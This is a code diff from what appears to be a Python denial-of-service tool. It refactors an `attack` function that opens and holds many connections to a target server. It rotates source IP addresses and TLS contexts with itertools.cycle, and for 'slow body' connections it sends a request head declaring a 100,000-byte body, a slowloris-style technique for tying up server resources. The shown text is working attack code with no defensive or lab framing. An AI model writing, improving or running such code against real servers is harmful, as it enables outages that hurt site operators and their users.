@@ -16,6 +16,7 @@ from __future__ import annotations
 
 import argparse
 import contextlib
+import itertools
 import json
 import resource
 import socket
@@ -46,20 +47,15 @@ def attack(host: str, port: int, contexts: list[ssl.SSLContext], wanted: dict[st
                  b"Content-Length: 100000\r\n\r\n")  # fmt: skip
     held: dict[str, list[list]] = {kind: [] for kind in KINDS}  # [socket, bytes sent]
     opened = dict.fromkeys(KINDS, 0)
-    turn = dict.fromkeys(("source", "context"), 0)
-
-    def next_of(what: str, items: list) -> object:
-        turn[what] += 1
-        return items[turn[what] % len(items)]
+    next_source = itertools.cycle(sources or [None])  # (each in turn)
+    next_context = itertools.cycle(contexts)
 
     def connect(kind: str) -> list | None:
         try:
-            source = (str(next_of("source", sources)), 0) if sources else None
-            sock = socket.create_connection((host, port), timeout=1.0, source_address=source)
+            source = next(next_source)
+            sock = socket.create_connection((host, port), timeout=1.0, source_address=(source, 0) if source else None)
             if kind == "slow body":
-                context = next_of("context", contexts)
-                assert isinstance(context, ssl.SSLContext)
-                sock = context.wrap_socket(sock, server_hostname=host)
+                sock = next(next_context).wrap_socket(sock, server_hostname=host)
                 sock.sendall(body_head)
             opened[kind] += 1
             return [sock, 0]
